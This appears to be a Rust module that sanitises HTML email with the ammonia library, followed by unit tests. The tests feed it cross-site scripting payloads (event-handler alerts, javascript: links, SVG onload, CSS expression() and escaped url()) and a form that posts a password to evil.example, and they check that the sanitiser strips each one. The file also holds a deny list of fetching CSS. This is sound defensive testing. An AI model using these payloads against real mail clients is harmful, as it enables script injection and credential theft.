//! An HTML message made safe to show, by ammonia (not by hand): no script, event handler, form,
//! frame, object, `<style>` block, `<base>` or `<meta>` survives; links go only to http(s) and
//! mailto, in a new tab, without referrer; a `style` attribute stays only if nothing in it
//! could fetch (`url(`, `image-set(`, `@import`, CSS escapes that could spell them). Images:
//! the message's own (`cid:`, rewritten to what the caller gives for it), `data:` raster
//! images, and remote ones only once the owner asked for them; until then they are dropped and
//! counted, so the browser fetches nothing remote.

use ammonia::{Builder, Url};
use std::borrow::Cow;
use std::collections::{HashMap, HashSet};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

/// Layout attributes HTML mail leans on; none of them holds a URL.
const LAYOUT: [&str; 8] = [
    "style", "class", "dir", "align", "valign", "bgcolor", "width", "height",
];
/// Anything in a `style` attribute that could load something, or hide something that could.
const FETCHING_CSS: [&str; 9] = [
    "url(",
    "image(",
    "image-set(",
    "expression(",
    "@import",
    "\\",
    "javascript:",
    "behavior",
    "-moz-binding",
];
/// The only `data:` images kept: raster types a browser only draws.
const DATA_IMAGES: [&str; 4] = ["image/png", "image/jpeg", "image/gif", "image/webp"];

/// What may be shown of the message's images.
pub struct Images {
    /// The message's own images by Content-ID, each with the URL to show it by.
    pub inline: HashMap<String, String>,
    /// Whether the owner asked to see this message's remote images.
    pub remote: bool,
}

/// The sanitised HTML and what was held back from it.
pub struct SafeHtml {
    pub html: String,
    /// Remote images dropped because the owner has not asked for them.
    pub hidden_remote: usize,
}

pub fn clean(html: &str, images: Images) -> SafeHtml {
    let hidden = Arc::new(AtomicUsize::new(0));
    let counted = Arc::clone(&hidden);
    let html = Builder::default()
        .add_tags(["font", "tfoot"])
        .add_clean_content_tags(["title"])
        .add_generic_attributes(LAYOUT)
        .add_tag_attributes("table", ["border", "cellpadding", "cellspacing"])
        .add_tag_attributes("font", ["color", "face", "size"])
        .url_schemes(HashSet::from(["http", "https", "mailto", "cid", "data"]))
        .set_tag_attribute_value("a", "target", "_blank")
        .link_rel(Some("noopener noreferrer nofollow"))
        .attribute_filter(move |element, attribute, value| match attribute {
            "href" => link(value),
            "src" if element == "img" => image(value, &images, &counted),
            "src" => None,
            "style" => style(value),
            _ => Some(Cow::Borrowed(value)),
        })
        .clean(html)
        .to_string();
    SafeHtml {
        html,
        hidden_remote: hidden.load(Ordering::Relaxed),
    }
}

/// An absolute http(s) or mailto link, as the URL parser reads it (so `java\tscript:` is
/// seen for what it is); anything else, relative ones included, is dropped.
fn link(value: &str) -> Option<Cow<'static, str>> {
    let url = Url::parse(value.trim()).ok()?;
    matches!(url.scheme(), "http" | "https" | "mailto").then(|| Cow::Owned(url.into()))
}

fn image<'u>(value: &'u str, images: &Images, hidden: &AtomicUsize) -> Option<Cow<'u, str>> {
    let url = Url::parse(value.trim()).ok()?;
    match url.scheme() {
        "cid" => images.inline.get(url.path()).cloned().map(Cow::Owned),
        "data" => {
            let kind = url.path().split([';', ',']).next()?.to_ascii_lowercase();
            DATA_IMAGES
                .contains(&kind.as_str())
                .then(|| Cow::Owned(url.into()))
        }
        "http" | "https" if images.remote => {
            // The frame's policy allows https: images only; an http one is asked for over
            // HTTPS, as browsers do for images on an HTTPS page.
            let mut url = url;
            url.set_scheme("https").ok()?;
            Some(Cow::Owned(url.into()))
        }
        "http" | "https" => {
            hidden.fetch_add(1, Ordering::Relaxed);
            None
        }
        _ => None,
    }
}

fn style(value: &str) -> Option<Cow<'_, str>> {
    let lower = value.to_ascii_lowercase();
    (!FETCHING_CSS.iter().any(|bad| lower.contains(bad))).then_some(Cow::Borrowed(value))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(html: &str) -> SafeHtml {
        clean(
            html,
            Images {
                inline: HashMap::from([(
                    "logo@x".to_owned(),
                    "data:image/png;base64,AAAA".to_owned(),
                )]),
                remote: false,
            },
        )
    }

    fn safe(html: &str) -> String {
        shown(html).html
    }

    #[test]
    fn scripts_and_event_handlers_are_gone() {
        let out = safe(
            "<title>TITLE</title><p onclick=\"alert(1)\">hi</p><script>alert(2)</script>\
             <img src=x onerror=alert(3)><body onload=alert(4)>\
             <svg onload=alert(5)><script>alert(6)</script><circle/></svg>",
        );
        for bad in [
            "alert", "onclick", "onerror", "onload", "<script", "<svg", "<circle", "TITLE",
        ] {
            assert!(!out.contains(bad), "{bad} in {out}");
        }
        assert!(out.contains("<p>hi</p>"), "{out}");
        // What <noscript> holds is text, and stays text.
        let out = safe("<noscript><img src=x onerror=alert(7)></noscript>");
        assert_eq!(out, "&lt;img src=x onerror=alert(7)&gt;");
    }

    #[test]
    fn links_are_only_web_or_mail_and_open_apart() {
        let out = safe(
            "<a href=\"javascript:alert(1)\">a</a><a href=\"java\tscript:alert(2)\">b</a>\
             <a href=\"data:text/html,<script>alert(3)</script>\">c</a>\
             <a href=\"/settings/security\">d</a><a href=\"vbscript:x\">e</a>\
             <a href=\"https://example.com/x?a=1&amp;b=2\" target=_self rel=opener>f</a>\
             <a href=\"mailto:bo@example.com\">g</a>",
        );
        for bad in [
            "javascript",
            "alert",
            "data:",
            "/settings",
            "vbscript",
            "_self",
            "opener\"",
        ] {
            assert!(!out.contains(bad), "{bad} in {out}");
        }
        assert!(
            out.contains(
                "<a href=\"https://example.com/x?a=1&amp;b=2\" target=\"_blank\" \
                 rel=\"noopener noreferrer nofollow\">f</a>"
            ),
            "{out}"
        );
        assert!(out.contains("href=\"mailto:bo@example.com\""), "{out}");
    }

    #[test]
    fn forms_frames_objects_base_and_meta_are_gone() {
        let out = safe(
            "<form action=\"https://evil.example/steal\"><input name=password>\
             <button formaction=\"https://evil.example\">Send</button></form>\
             <iframe src=\"https://evil.example\"></iframe><object data=\"x.swf\"></object>\
             <embed src=\"x.swf\"><base href=\"https://evil.example/\">\
             <meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">\
             <link rel=stylesheet href=\"https://evil.example/a.css\">",
        );
        for bad in [
            "<form", "<input", "<button", "<iframe", "<object", "<embed", "<base", "<meta",
            "<link", "evil", "refresh",
        ] {
            assert!(!out.contains(bad), "{bad} in {out}");
        }
        assert!(out.contains("Send"), "{out}");
    }

    #[test]
    fn css_that_could_fetch_is_dropped() {
        let out = safe(
            "<style>body { background: url(https://evil.example/a.png) }</style>\
             <p style=\"background:url(https://evil.example/b.png)\">1</p>\
             <p style=\"background:URL( 'https://evil.example/c.png')\">2</p>\
             <p style=\"background:u\\72l(https://evil.example/d.png)\">3</p>\
             <p style=\"background-image:image-set('https://evil.example/e.png' 1x)\">4</p>\
             <p style=\"width:expression(alert(1))\">5</p>\
             <p style=\"color: red; font-weight: bold\">6</p>",
        );
        for bad in ["<style", "url", "evil", "expression", "image-set"] {
            assert!(!out.to_lowercase().contains(bad), "{bad} in {out}");
        }
        assert!(
            out.contains("<p style=\"color: red; font-weight: bold\">6</p>"),
            "{out}"
        );
    }

    #[test]
    fn remote_images_wait_for_the_owner() {
        let html = "<img src=\"https://track.example/p.gif\" alt=pixel>\
                    <img src=\"http://track.example/q.gif\">\
                    <img srcset=\"https://track.example/r.gif 2x\" src=\"cid:logo@x\">\
                    <img src=\"//track.example/s.gif\"><img src=\"cid:unknown@x\">\
                    <img src=\"data:image/png;base64,iVBORw0KGgo=\">\
                    <img src=\"data:image/svg+xml,<svg onload=alert(1)>\">\
                    <table background=\"https://track.example/t.gif\"><tr><td>x</td></tr></table>";
        let hidden = shown(html);
        assert_eq!(hidden.hidden_remote, 2);
        for bad in ["track.example", "srcset", "background", "svg", "unknown"] {
            assert!(!hidden.html.contains(bad), "{bad} in {}", hidden.html);
        }
        assert!(
            hidden.html.contains("<img alt=\"pixel\">"),
            "{}",
            hidden.html
        );
        assert!(
            hidden.html.contains("src=\"data:image/png;base64,AAAA\""),
            "{}",
            hidden.html
        );
        assert!(
            hidden
                .html
                .contains("src=\"data:image/png;base64,iVBORw0KGgo=\""),
            "{}",
            hidden.html
        );
        let allowed = clean(
            html,
            Images {
                inline: HashMap::new(),
                remote: true,
            },
        );
        assert_eq!(allowed.hidden_remote, 0);
        assert!(
            allowed.html.contains("src=\"https://track.example/p.gif\"")
                && allowed.html.contains("src=\"https://track.example/q.gif\""),
            "{}",
            allowed.html
        );
        assert!(!allowed.html.contains("srcset"), "{}", allowed.html);
    }
}
